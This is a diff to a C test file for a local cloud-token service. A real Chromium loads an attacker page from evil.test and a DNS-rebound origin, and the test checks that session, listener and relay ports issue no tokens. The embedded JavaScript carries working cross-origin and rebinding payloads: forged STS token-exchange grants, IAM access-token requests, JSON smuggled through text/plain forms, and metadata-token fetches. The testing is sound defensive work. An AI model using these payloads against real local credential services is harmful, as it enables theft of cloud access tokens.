@@ -1,9 +1,11 @@
 /*
- * A real browser against a session's port: what a web page can do, and what one can whose name was rebound to 127.0.0.1.
+ * A real browser against each kind of port, with each surface behind it: what a web page can do, and what one can whose name was
+ * rebound to 127.0.0.1. Where the session is ours the page knows what no page would, its handle; the configuration's port takes any:
+ * there nothing but the rules on who asks keeps it out.
  *
  * The attacker's server is a thread of ours. Chromium is told that evil.test and rebind.test are there (--host-resolver-rules): the former
- * serves the pages and takes their reports; what is asked of http://rebind.test:PORT, PORT being the session's, beside its page,
- * is handed on to the session's port byte for byte, as if the name had come to mean 127.0.0.1 in between.
+ * serves the pages and takes their reports; what is asked of http://rebind.test:PORT, PORT being ours, beside its page,
+ * is handed on to our port byte for byte, as if the name had come to mean 127.0.0.1 in between.
  */
 #include <stdarg.h>
 #include <stddef.h>
@@ -21,14 +23,18 @@
 #include <sys/wait.h>
 #include <unistd.h>
 #include "hallpass/cleanup.h"
+#include "tests/lib/running.h"
 #include "tests/lib/session.h"
 #include "tests/lib/world.h"
 
 #define PATIENCE_MS 60000
 #define PATH "/computeMetadata/v1/instance/service-accounts/default/token"
 
+#define IAM "/v1/projects/-/serviceAccounts/" SA_DEV ":generateAccessToken"
+
 static struct world w;
-static struct session_of_test s;
+static struct session_of_test s; /* what the page is at; fd: of the control connection, where it is a session's */
+static struct running relay;
 
 /* --- the attacker's server */
 
@@ -36,14 +42,17 @@ static struct {
 	pthread_t thread;
 	int listening, port;
 	pthread_mutex_t lock;
-	char report[32768]; /* what the page tells of its tries; "": nothing yet */
+	char report[65536]; /* what the page tells of its tries; "": nothing yet */
 	int handed_on;
 } attacker = { .lock = PTHREAD_MUTEX_INITIALIZER };
 
 /* Each try ends in a line NAME=RESULT. No-cors answers are opaque to the page; whether a token was issued tells the record. */
 static const char page[] =
 	"<!doctype html><title>evil</title><body><script>\n"
-	"const P = %d, path = '" PATH "', lines = [];\n"
+	"const P = %d, handle = '%s', path = '" PATH "', iam = '" IAM "', lines = [];\n"
+	"const grant = {grant_type: 'urn:ietf:params:oauth:grant-type:token-exchange', audience: '//hallpass.invalid/local', subject_token: handle,\n"
+	"  subject_token_type: 'urn:ietf:params:oauth:token-type:jwt', requested_token_type: 'urn:ietf:params:oauth:token-type:access_token'};\n"
+	"const scope = '{\"scope\": [\"https://www.googleapis.com/auth/cloud-platform\"]}';\n"
 	"const flavor = {headers: {'Metadata-Flavor': 'Google'}};\n"
 	"const limit = p => Promise.race([p, new Promise((_, no) => setTimeout(() => no('timeout'), 4000))]);\n"
 	"async function get(name, url, init) {\n"
@@ -52,6 +61,13 @@ static const char page[] =
 	"}\n"
 	"const element = (name, make) => limit(new Promise(done => { const e = make(); e.onload = () => done('load'); e.onerror = () => done('error');\n"
 	"  document.body.append(e); })).then(r => lines.push(name + '=' + r), e => lines.push(name + '=' + e));\n"
+	"let forms = 0;\n"
+	"const form = (name, action, enctype, members) => element(name, () => {\n"
+	"  const f = document.createElement('form'), e = document.createElement('iframe'); e.name = f.target = 'form' + forms++;\n"
+	"  f.method = 'POST'; f.enctype = enctype; f.action = action;\n"
+	"  for (const [k, v] of Object.entries(members)) { const i = document.createElement('input'); i.name = k; i.value = v; f.append(i); }\n"
+	"  document.body.append(f); setTimeout(() => f.submit()); return e;\n"
+	"});\n"
 	"const socket = (name, url) => limit(new Promise(done => { const s = new WebSocket(url); s.onopen = () => done('OPEN'); s.onerror = () =>\n"
 	"  done('error'); })).then(r => lines.push(name + '=' + r), e => lines.push(name + '=' + e));\n"
 	"async function evil() {\n"
@@ -69,9 +85,15 @@ static const char page[] =
 	"    await element('iframe ' + host, () => { const e = document.createElement('iframe'); e.src = at + path; return e; });\n"
 	"    await socket('websocket ' + host, 'ws://' + host + ':' + P + path);\n"
 	"    lines.push('beacon ' + host + '=' + navigator.sendBeacon(at + path, 'x'));\n"
-	"    await element('form ' + host, () => { const e = document.createElement('iframe'); e.name = 'f' + host; return e; });\n"
-	"    const form = document.createElement('form'); form.method = 'POST'; form.enctype = 'text/plain'; form.action = at + path;\n"
-	"    form.target = 'f' + host; document.body.append(form); form.submit();\n"
+	"    lines.push('beacon sts ' + host + '=' + navigator.sendBeacon(at + '/v1/token', new URLSearchParams(grant)));\n"
+	"    await form('form ' + host, at + path, 'text/plain', {a: 'b'});\n"
+	"    await form('form sts ' + host, at + '/v1/token', 'application/x-www-form-urlencoded', grant);\n"
+	"    await form('form introspect ' + host, at + '/v1/introspect', 'application/x-www-form-urlencoded', {token: 'x'});\n"
+	"    await form('form iam ' + host, at + iam, 'text/plain', {[scope.slice(0, -1) + ', \"x\": \"']: '\"}'});\n"
+	"    await get('sts ' + host, at + '/v1/token', {method: 'POST', mode: 'no-cors', body: new URLSearchParams(grant)});\n"
+	"    await get('iam ' + host, at + iam, {method: 'POST', mode: 'no-cors', body: scope});\n"
+	"    await get('iam preflight ' + host, at + iam, {method: 'POST', headers: {'Content-Type': 'application/json', Authorization: 'Bearer ' + handle}, body: scope});\n"
+	"    await socket('websocket sts ' + host, 'ws://' + host + ':' + P + '/v1/token');\n"
 	"  }\n"
 	"}\n"
 	"async function rebind() {\n"
@@ -79,6 +101,11 @@ static const char page[] =
 	"  await get('rebound', path, quiet);\n"
 	"  await get('rebound ping', '/', quiet);\n"
 	"  await get('rebound with referrer', path, flavor);\n"
+	"  await get('rebound sts', '/v1/token', {method: 'POST', referrerPolicy: 'no-referrer', body: new URLSearchParams(grant)});\n"
+	"  await get('rebound iam', iam, {method: 'POST', referrerPolicy: 'no-referrer', headers: {'Content-Type': 'application/json',\n"
+	"    Authorization: 'Bearer ' + handle}, body: scope});\n"
+	"  await get('rebound iam by GET', iam, {referrerPolicy: 'no-referrer', headers: {Authorization: 'Bearer ' + handle}});\n"
+	"  await socket('rebound websocket', 'ws://' + location.host + path);\n"
 	"  await get('rebound session', '/v1/sessions', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{}'});\n"
 	"}\n"
 	"(location.hostname == 'evil.test' ? evil() : rebind()).then(() => {\n"
@@ -124,7 +151,7 @@ static void send_page(int fd, const char *type, const char *body) {
 	send_all(fd, body, strlen(body));
 }
 
-/* To the session's port, as it came; the answer back. */
+/* To our port, as it came; the answer back. */
 static void hand_on(int fd, const char *text, size_t n) {
 	struct sockaddr_in in = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK), .sin_port = htons((uint16_t)s.port) };
 	int to = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
@@ -140,7 +167,7 @@ static void hand_on(int fd, const char *text, size_t n) {
 }
 
 static void serve(int fd) {
-	static char text[65536], whole[sizeof(page) + 32];
+	static char text[65536], whole[sizeof(page) + 100];
 	size_t n = read_until_whole(fd, text, sizeof(text));
 	char *body = strstr(text, "\r\n\r\n");
 
@@ -153,7 +180,7 @@ static void serve(int fd) {
 	} else if (!strncmp(text, "GET /page ", 10)) {
 #pragma GCC diagnostic push
 #pragma GCC diagnostic ignored "-Wformat-nonliteral"
-		snprintf(whole, sizeof(whole), page, s.port);
+		snprintf(whole, sizeof(whole), page, s.port, s.handle[0] ? s.handle : "any will do");
 #pragma GCC diagnostic pop
 		send_page(fd, "text/html", whole);
 	} else if (!strcasestr(text, "\r\nHost: evil.test")) {
@@ -257,6 +284,11 @@ static int teardown(void **state) {
 	if (s.fd > 0)
 		close(s.fd);
 	s.fd = 0;
+	if (relay.pid > 0) {
+		kill(relay.pid, SIGTERM);
+		finish(&relay);
+	}
+	relay.pid = 0;
 	return world_end_well(&w);
 }
 
@@ -270,21 +302,50 @@ static int64_t requests_so_far(void) {
 	return n;
 }
 
-/* Nothing was issued, nor asked of Google: and the port does give tokens to who may have them. */
-static void assert_nothing_was_issued(void) {
-	json_t *records = world_records(&w, NULL, 0);
-	struct http_answer h;
+/* --- where the page is at */
 
-	assert_non_null(records);
-	assert_int_equal(records_count(records, "issued") + records_count(records, "intent"), 0);
-	assert_int_equal(records_count(records, "opened"), 1);
-	json_decref(records);
-	assert_null(strstr(attacker.report, "access_token"));
-	assert_null(strstr(attacker.report, "ya29"));
-	md(&s, "instance/service-accounts/default/token", &h);
-	assert_int_equal(h.status, 200);
-	http_answer_fini(&h);
+/* Of both families, so that [::1] is there, too. */
+static int free_port(void) {
+	struct sockaddr_in6 in = { .sin6_family = AF_INET6, .sin6_addr = in6addr_any };
+	socklen_t len = sizeof(in);
+	int fd = socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0);
+
+	assert_int_equal(bind(fd, (struct sockaddr *)&in, len), 0);
+	getsockname(fd, (struct sockaddr *)&in, &len);
+	close(fd);
+	return ntohs(in.sin6_port);
 }
+
+static void at_session(void) {
+	world_daemon(&w);
+	session_begin(&w, "{\"serviceAccount\": \"" SA_DEV "\"}", &s);
+}
+
+static void at_listener(void) {
+	int port = free_port();
+
+	snprintf(w.listeners_more, sizeof(w.listeners_more),
+		 ", {tcp: \"127.0.0.1:%d\", serviceAccounts: [" SA_DEV "]}, {tcp: \"[::1]:%d\", serviceAccounts: [" SA_DEV "]}", port, port);
+	world_daemon(&w);
+	door_at(port, &s);
+}
+
+static void at_relay(void) {
+	char at[32];
+	int port = free_port();
+
+	snprintf(at, sizeof(at), "127.0.0.1:%d", port);
+	world_daemon(&w);
+	start(&w, &relay, (const char *const[]){ program("hallpass"), "relay", "--listen", at, "--as", SA_DEV, NULL });
+	if (!wait_for(&relay, "programs find it by"))
+		fail_msg("%s", relay.text);
+	door_at(port, &s);
+}
+
+static const struct {
+	void (*begin)(void);
+	size_t sessions; /* that it opens itself */
+} places[] = { { at_session, 1 }, { at_listener, 0 }, { at_relay, 1 } };
 
 static const char *browser_or_skip(void) {
 	const char *browser = find_browser();
@@ -293,52 +354,95 @@ static const char *browser_or_skip(void) {
 		print_message("skipped: no Chromium is installed\n");
 		skip();
 	}
-	world_daemon(&w);
-	session_begin(&w, "{\"serviceAccount\": \"" SA_DEV "\"}", &s);
-	attacker_start();
 	return browser;
 }
 
-static void test_P4_a_page_in_a_browser_gets_no_token(void **state) {
-	static const char *const expected[] = { "\ncors 127.0.0.1=err", "\npreflight 127.0.0.1=err", "\nwebsocket 127.0.0.1=error", "\nwebsocket localhost=error",
-						"\ncors localhost=err", "\nbeacon 127.0.0.1=true", "nocors 127.0.0.1=opaque" };
-	const char *browser = browser_or_skip();
-	int64_t before = requests_so_far();
+/* Nothing was issued, nor asked of Google: and the port does give tokens to who may have them. */
+static void assert_nothing_was_issued(size_t sessions) {
+	json_t *records = world_records(&w, NULL, 0);
+	struct http_answer h;
 
-	(void)state;
+	assert_non_null(records);
+	assert_int_equal(records_count(records, "issued") + records_count(records, "intent"), 0);
+	assert_int_equal(records_count(records, "opened"), sessions);
+	json_decref(records);
+	assert_null(strstr(attacker.report, "access_token"));
+	assert_null(strstr(attacker.report, "accessToken"));
+	assert_null(strstr(attacker.report, "ya29"));
+	md(&s, "instance/service-accounts/default/token", &h);
+	assert_int_equal(h.status, 200);
+	http_answer_fini(&h);
+}
+
+static void assert_reported(const char *what) {
+	if (!strstr(attacker.report, what))
+		fail_msg("no \"%s\"", what);
+}
+
+static void page_gets_no_token(size_t place) {
+	static const char *const expected[] = {
+		"\ncors 127.0.0.1=err", "\npreflight 127.0.0.1=err", "\nwebsocket 127.0.0.1=error", "\nwebsocket localhost=error",
+		"\ncors localhost=err", "\nbeacon 127.0.0.1=true", "nocors 127.0.0.1=opaque", "\nsts 127.0.0.1=opaque",
+		"\niam 127.0.0.1=opaque", "\niam preflight 127.0.0.1=err", "\nform sts 127.0.0.1=load", "\nform iam localhost=load",
+		"\nwebsocket sts 127.0.0.1=error",
+	};
+	const char *browser = browser_or_skip();
+	int64_t before;
+
+	places[place].begin();
+	before = requests_so_far();
+	attacker_start();
 	browse(browser, "http://evil.test/page");
 	attacker_stop();
 	for (size_t i = 0; i < ARRAY_SIZE(expected); i++)
-		if (!strstr(attacker.report, expected[i]))
-			fail_msg("no \"%s\"", expected[i]);
-	assert_true(requests_so_far() - before > 15); /* they did arrive: it is we who refused them */
-	assert_nothing_was_issued();
+		assert_reported(expected[i]);
+	assert_true(requests_so_far() - before > 40); /* they did arrive: it is we who refused them */
+	assert_nothing_was_issued(places[place].sessions);
 }
 
-static void test_P4_a_rebound_page_gets_no_token(void **state) {
+static void rebound_page_gets_no_token(size_t place) {
+	/* It is the same origin to the browser, which sends what it is told and lets the page read what comes. */
+	static const char *const expected[] = { "rebound=basic 421 ", "rebound ping=basic 421 ", "MISDIRECTED_REQUEST", "rebound with referrer=basic 403 ",
+						"rebound sts=basic 403 ", "rebound iam=basic 403 ", "rebound iam by GET=basic 421 ",
+						"rebound websocket=error", "rebound session=basic 403 " };
 	const char *browser = browser_or_skip();
 	char url[64];
 
-	(void)state;
+	places[place].begin();
+	attacker_start();
 	snprintf(url, sizeof(url), "http://rebind.test:%d/page", s.port);
 	browse(browser, url);
 	attacker_stop();
-	assert_true(attacker.handed_on >= 4);
-	/* It is the same origin to the browser, which sends what it is told and lets the page read what comes. */
-	assert_non_null(strstr(attacker.report, "rebound=basic 421 "));
-	assert_non_null(strstr(attacker.report, "rebound ping=basic 421 "));
-	assert_non_null(strstr(attacker.report, "MISDIRECTED_REQUEST"));
-	assert_non_null(strstr(attacker.report, "rebound with referrer=basic 403 "));
-	assert_non_null(strstr(attacker.report, "rebound session=basic 403 "));
-	assert_nothing_was_issued();
+	assert_true(attacker.handed_on >= 8);
+	for (size_t i = 0; i < ARRAY_SIZE(expected); i++)
+		assert_reported(expected[i]);
+	assert_nothing_was_issued(places[place].sessions);
 }
+
+#define AT(place, number)                                                                                              \
+	static void test_P4_a_page_gets_no_token_at_a_##place(void **state) {                                         \
+		(void)state;                                                                                           \
+		page_gets_no_token(number);                                                                            \
+	}                                                                                                              \
+	static void test_P4_a_rebound_page_gets_no_token_at_a_##place(void **state) {                                 \
+		(void)state;                                                                                           \
+		rebound_page_gets_no_token(number);                                                                    \
+	}
+
+AT(session, 0)
+AT(listener, 1)
+AT(relay, 2)
 
 #define SCENARIO(f) cmocka_unit_test_setup_teardown(f, setup, teardown)
 
 int main(void) {
 	const struct CMUnitTest tests[] = {
-		SCENARIO(test_P4_a_page_in_a_browser_gets_no_token),
-		SCENARIO(test_P4_a_rebound_page_gets_no_token),
+		SCENARIO(test_P4_a_page_gets_no_token_at_a_session),
+		SCENARIO(test_P4_a_rebound_page_gets_no_token_at_a_session),
+		SCENARIO(test_P4_a_page_gets_no_token_at_a_listener),
+		SCENARIO(test_P4_a_rebound_page_gets_no_token_at_a_listener),
+		SCENARIO(test_P4_a_page_gets_no_token_at_a_relay),
+		SCENARIO(test_P4_a_rebound_page_gets_no_token_at_a_relay),
 	};
 
 	signal(SIGPIPE, SIG_IGN);
